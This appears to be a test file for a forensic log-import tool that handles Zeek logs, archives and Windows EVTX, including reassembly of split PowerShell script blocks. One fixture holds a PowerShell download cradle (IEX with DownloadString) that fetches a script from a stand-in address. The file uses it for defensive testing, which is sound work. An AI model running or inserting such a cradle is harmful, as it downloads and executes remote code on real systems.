import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { makeTar, makeZip, sha256 } from '../../test/archives.ts';
import { corpusFile, corpusSkipReason, hasCorpus } from '../../test/paths.ts';
import { createBackend } from '../backend/backend.ts';
import type { CasebookBackend } from '../backend/types.ts';
import { template, v, type WRecord, writeEvtx, xml } from '../formats/evtx/writer.ts';
import { writeZeekSample } from '../scenario/zeek-sample.ts';

const open: CasebookBackend[] = [];

async function newCase(): Promise<{ backend: CasebookBackend; dir: string }> {
  const dir = await mkdtemp(path.join(tmpdir(), 'import-'));
  const backend = await createBackend({ casePath: path.join(dir, 'case.duckdb') });
  open.push(backend);
  return { backend, dir };
}

async function importPaths(backend: CasebookBackend, paths: string[]) {
  const { importId } = await backend.startImport(paths);
  return backend.waitForImport(importId);
}

afterEach(async () => {
  while (open.length > 0) await open.pop()!.close();
});

describe('import of a project-made bundle', () => {
  it('imports folder and zip members with exact hashes', async () => {
    const { backend, dir } = await newCase();
    const sample = await writeZeekSample(path.join(dir, 'bundle'), { seed: 3, events: 3000 });
    const conn = await readFile(path.join(dir, 'bundle', 'conn.log'));
    const dns = await readFile(path.join(dir, 'bundle', 'dns.log'));
    await writeFile(
      path.join(dir, 'bundle', 'extra.zip'),
      makeZip([{ name: 'copy/conn.09:00:00-10:00:00.log', data: conn }], { deflate: true }),
    );
    await writeFile(path.join(dir, 'bundle', 'notes.txt'), 'analyst notes, not evidence a parser reads\n');
    const progress = await importPaths(backend, [path.join(dir, 'bundle')]);
    expect(progress.state).toBe('done');
    const byName = new Map(progress.files.map((file) => [file.path.replace(/^bundle\//, ''), file]));
    expect(byName.get('conn.log')).toMatchObject({
      status: 'imported',
      records: sample.files['conn.log'],
      errors: 0,
      sha256: sha256(conn),
    });
    expect(byName.get('dns.log')).toMatchObject({ status: 'imported', records: sample.files['dns.log'], sha256: sha256(dns) });
    // The zip member has the same bytes as conn.log: recorded, hashed, not imported twice.
    expect(byName.get('extra.zip/copy/conn.09:00:00-10:00:00.log')).toMatchObject({
      status: 'duplicate',
      records: 0,
      duplicates: sample.files['conn.log'],
    });
    expect(byName.get('notes.txt')?.status).toBe('skipped');
    expect(byName.get('notes.txt')?.messages[0]).toMatch(/no parser recognises this content/);
    const info = await backend.caseInfo();
    expect(info.events).toBe(sample.events);
    expect(info.sources.find((source) => source.log === 'conn')?.events).toBe(sample.files['conn.log']);
  });

  it('does not duplicate rows when the same bundle is imported again', async () => {
    const { backend, dir } = await newCase();
    const sample = await writeZeekSample(path.join(dir, 'bundle'), { seed: 4, events: 500 });
    await importPaths(backend, [path.join(dir, 'bundle')]);
    const again = await importPaths(backend, [path.join(dir, 'bundle')]);
    expect(again.files.every((file) => file.status === 'duplicate')).toBe(true);
    expect(again.records).toBe(0);
    expect((await backend.caseInfo()).events).toBe(sample.events);
  });

  it('keeps a truncated gzip member partial and imports its siblings', async () => {
    const { backend, dir } = await newCase();
    await writeZeekSample(path.join(dir, 'src'), { seed: 5, events: 4000 });
    const conn = gzipSync(await readFile(path.join(dir, 'src', 'conn.log')));
    const cut = conn.subarray(0, Math.floor(conn.length * 0.6));
    const tarball = await makeTar([
      { name: 'conn.09:00:00-10:00:00.log.gz', data: cut },
      { name: 'ssl.log', data: await readFile(path.join(dir, 'src', 'ssl.log')) },
    ]);
    await writeFile(path.join(dir, 'damaged.tar.gz'), gzipSync(tarball));
    const progress = await importPaths(backend, [path.join(dir, 'damaged.tar.gz')]);
    expect(progress.state).toBe('done');
    const connResult = progress.files.find((file) => file.path.endsWith('conn.09:00:00-10:00:00.log.gz'))!;
    expect(connResult.status).toBe('partial');
    expect(connResult.records).toBeGreaterThan(0);
    expect(connResult.messages.join('\n')).toMatch(/compressed data ends early after line \d+/);
    expect(progress.files.find((file) => file.path.endsWith('ssl.log'))?.status).toBe('imported');
  });

  it('drops an overlong line and imports the rest', async () => {
    const { backend, dir } = await newCase();
    await writeZeekSample(path.join(dir, 'src'), { seed: 9, events: 200 });
    const lines = (await readFile(path.join(dir, 'src', 'ssl.log'), 'utf8')).split('\n');
    const header = lines.filter((line) => line.startsWith('#') && !line.startsWith('#close'));
    const rows = lines.filter((line) => line.length > 0 && !line.startsWith('#'));
    const huge = `${rows[0]!.split('\t')[0]}\t${'x'.repeat(9 * 1024 * 1024)}`;
    await writeFile(path.join(dir, 'ssl.log'), [...header, rows[0], huge, ...rows.slice(1), ''].join('\n'));
    const progress = await importPaths(backend, [path.join(dir, 'ssl.log')]);
    const file = progress.files[0]!;
    expect(file.records).toBe(rows.length);
    expect(file.errors).toBe(1);
    expect(file.status).toBe('partial');
    expect(file.messages.join('\n')).toMatch(new RegExp(`line ${header.length + 2}: line longer than \\d+ characters`));
  });

  it('leaves the case unchanged when an import is cancelled', async () => {
    const { backend, dir } = await newCase();
    const first = await writeZeekSample(path.join(dir, 'first'), { seed: 6, events: 300 });
    await importPaths(backend, [path.join(dir, 'first')]);
    await writeZeekSample(path.join(dir, 'big'), { seed: 7, events: 60_000 });
    const { importId } = await backend.startImport([path.join(dir, 'big')]);
    await backend.cancelImport(importId);
    const progress = await backend.importProgress(importId);
    expect(progress.state).toBe('cancelled');
    const info = await backend.caseInfo();
    expect(info.events).toBe(first.events);
    expect(info.evidenceFiles).toBe(4);
  });

  it('pages the timeline by keyset with filters and search', async () => {
    const { backend, dir } = await newCase();
    const sample = await writeZeekSample(path.join(dir, 'bundle'), { seed: 8, events: 5000 });
    await importPaths(backend, [path.join(dir, 'bundle')]);
    const first = await backend.timelinePage({}, 0, 100);
    expect(first.total).toBe(sample.events);
    expect(first.matched).toBe(sample.events);
    const last = await backend.timelinePage({}, sample.events - 10, sample.events);
    expect(last.rows).toHaveLength(10);
    expect(last.rows[9]!.ts! >= last.rows[0]!.ts!).toBe(true);
    expect(first.rows[0]!.ts! <= last.rows[0]!.ts!).toBe(true);
    const beacon = await backend.timelinePage(
      { filters: [{ column: 'dst_ip', op: 'equals', value: sample.beacon.dst }], search: 'ssl' },
      0,
      10,
    );
    // Each beacon writes one conn row and one ssl row, both to the beacon address.
    expect(beacon.matched).toBe(sample.beacon.connections * 2);
    const detail = await backend.eventDetail(beacon.rows[0]!.event_id);
    expect(detail.row.dst_ip).toBe(sample.beacon.dst);
    expect(detail.evidence.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.parse(detail.data)['id.resp_h']).toBe(sample.beacon.dst);
  });
});

describe('import of PowerShell script blocks', () => {
  const { el, sub } = xml;
  const scriptBlock = template(
    el(
      'Event',
      { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      el(
        'System',
        {},
        el('Provider', { Name: 'Microsoft-Windows-PowerShell', Guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' }),
        el('EventID', {}, '4104'),
        el('TimeCreated', { SystemTime: sub(0, 0x11) }),
        el('EventRecordID', {}, sub(1, 0x0a)),
        el('Channel', {}, 'Microsoft-Windows-PowerShell/Operational'),
        el('Computer', {}, 'WKS07.corp.example'),
      ),
      el(
        'EventData',
        {},
        el('Data', { Name: 'MessageNumber' }, sub(2, 0x07)),
        el('Data', { Name: 'MessageTotal' }, sub(3, 0x07)),
        el('Data', { Name: 'ScriptBlockText' }, sub(4, 0x01)),
        el('Data', { Name: 'ScriptBlockId' }, sub(5, 0x01)),
        el('Data', { Name: 'Path' }, sub(6, 0x01)),
      ),
    ),
  );
  const part = (id: bigint, number: number, total: number, text: string, block: string): WRecord => ({
    id,
    written: `2024-03-01T10:20:0${id % 10n}.4410000Z`,
    template: scriptBlock,
    values: [
      v.filetime(`2024-03-01T10:20:0${id % 10n}.4410000Z`),
      v.uint64(id),
      v.int32(number),
      v.int32(total),
      v.string(text),
      v.string(block),
      v.string(''),
    ],
  });

  it('stores the reassembled script in the first part', async () => {
    const { backend, dir } = await newCase();
    const cradle = ["$u='http://192.0.2.7/a.ps1'\n$x=1; IE", 'X (New-Object Net.WebC', 'lient).DownloadString($u)\n'];
    const file = path.join(dir, 'PowerShell.evtx');
    // Parts arrive out of order, with an unrelated single-part block in between.
    await writeFile(
      file,
      writeEvtx([
        part(1n, 2, 3, cradle[1]!, 'b1'),
        part(2n, 1, 1, 'Get-Date', 'b2'),
        part(3n, 3, 3, cradle[2]!, 'b1'),
        part(4n, 1, 3, cradle[0]!, 'b1'),
        part(5n, 2, 2, 'Out-Null', 'b3'),
      ]),
    );

    const progress = await importPaths(backend, [file]);
    expect(progress.files[0]).toMatchObject({ status: 'imported', records: 5 });
    expect(progress.files[0]!.messages).toContain(
      "2 multi-part PowerShell script blocks reassembled, 1 with parts missing: the whole script is in the data of each block's first part",
    );

    const carrier = await backend.timelinePage({ search: 'b1 reassembled' }, 0, 10);
    expect(carrier.rows).toHaveLength(1);
    expect(carrier.rows[0]!.message).toContain('DownloadString($u)');
    const detail = JSON.parse((await backend.eventDetail(carrier.rows[0]!.event_id)).data);
    expect(detail.EventData.MessageNumber).toBe('1');
    expect(detail.ScriptBlock.Text).toBe(cradle.join(''));
    expect(detail.ScriptBlock.Parts.map((p: { EventRecordID: string }) => p.EventRecordID)).toEqual(['4', '1', '3']);

    const parts = await backend.timelinePage({ search: 'b1' }, 0, 10);
    expect(parts.matched).toBe(3);
    for (const row of parts.rows) expect(JSON.parse((await backend.eventDetail(row.event_id)).data).ScriptBlock.Id).toBe('b1');
    const single = await backend.timelinePage({ search: 'b2' }, 0, 10);
    expect(JSON.parse((await backend.eventDetail(single.rows[0]!.event_id)).data).ScriptBlock).toBeUndefined();
    const incomplete = await backend.timelinePage({ search: 'b3' }, 0, 10);
    expect(incomplete.rows[0]!.message).toBe(
      'Script block (part 2 of 2, id b3, reassembled, part 1 of 2 missing): <# part 1 of 2 missing #>\\nOut-Null',
    );
  });
});

interface ZeekTruth {
  rows: number;
}

describe.skipIf(!hasCorpus)('import of the Zeek corpus', () => {
  it('stores every Zeek log with the ground-truth row count', async () => {
    const truth = JSON.parse(await readFile(corpusFile('ground-truth.json'), 'utf8')) as { zeek: Record<string, ZeekTruth> };
    const { backend } = await newCase();
    const progress = await importPaths(backend, [corpusFile('zeek')]);
    expect(progress.state).toBe('done');
    for (const [relative, expected] of Object.entries(truth.zeek)) {
      const file = progress.files.find((candidate) => candidate.path === relative);
      expect(file, relative).toBeDefined();
      // The ground truth skips whitespace-only lines; Zeek's own test writes three such rows here.
      const rows = relative.endsWith('ascii-escape-binary/test.log') ? 11 : expected.rows;
      expect(file!.records, relative).toBe(rows);
      expect(file!.errors, relative).toBe(0);
    }
  });

  it('stores the Zeek logs inside the bundle archives', async () => {
    const truth = JSON.parse(await readFile(corpusFile('ground-truth.json'), 'utf8')) as {
      bundles: { members: { zeek_logs: Record<string, ZeekTruth> } };
    };
    const { backend } = await newCase();
    const zip = corpusFile('bundles/otrf-lsass-campaign-01/metasploit_logonpasswords_lsass_memory_dump_zeek_logs.zip');
    const progress = await importPaths(backend, [zip]);
    for (const [name, expected] of Object.entries(truth.bundles.members.zeek_logs)) {
      const file = progress.files.find((candidate) => candidate.path.endsWith(`.zip/${name}`));
      expect(file, name).toBeDefined();
      expect(file!.records, name).toBe(expected.rows);
    }
  });
});

describe.skipIf(!hasCorpus)('import of binary EVTX', () => {
  it('stores corpus logs with reference counts and recovered records apart', async () => {
    const { backend } = await newCase();
    const folder = corpusFile('evtx/omerbenamram-evtx');
    const expected: Record<string, { records: number; recovered: number }> = {
      'security.evtx': { records: 2261, recovered: 0 },
      'sysmon.evtx': { records: 358, recovered: 0 },
      'E_Windows_system32_winevt_logs_Microsoft-Windows-CAPI2%4Operational.evtx': { records: 340, recovered: 0 },
      '2-vss_0-Microsoft-Windows-RemoteDesktopServices-RdpCoreTS%4Operational.evtx': { records: 1910, recovered: 63 },
    };
    const progress = await importPaths(
      backend,
      Object.keys(expected).map((name) => path.join(folder, name)),
    );
    for (const [name, counts] of Object.entries(expected)) {
      const file = progress.files.find((candidate) => candidate.path === name);
      expect(file, name).toBeDefined();
      expect(file!.kind, name).toBe('evtx');
      expect(file!.records - (file!.recovered ?? 0), name).toBe(counts.records);
      expect(file!.recovered ?? 0, name).toBe(counts.recovered);
    }
    const page = await backend.timelinePage({ search: 'sysmon' }, 0, 5);
    expect(page.matched).toBeGreaterThan(0);
    expect(page.rows[0]!.source).toBe('evtx');
  });

  it('counts the evtx_dump JSON of a stored log as duplicates', async () => {
    const { backend } = await newCase();
    const stem = corpusFile('evtx-exports/sigma-regression/271de298-cc0e-4842-acd8-079a0a99ea65');
    const progress = await importPaths(backend, [`${stem}.evtx`, `${stem}.json`]);
    expect(progress.files.map((file) => [file.kind, file.status, file.records, file.duplicates])).toEqual([
      ['evtx', 'imported', 1, 0],
      ['evtx-export', 'duplicate', 0, 1],
    ]);
    expect((await backend.caseInfo()).events).toBe(1);
  });
});

if (!hasCorpus) console.warn(`[skip] Zeek corpus import: ${corpusSkipReason}`);
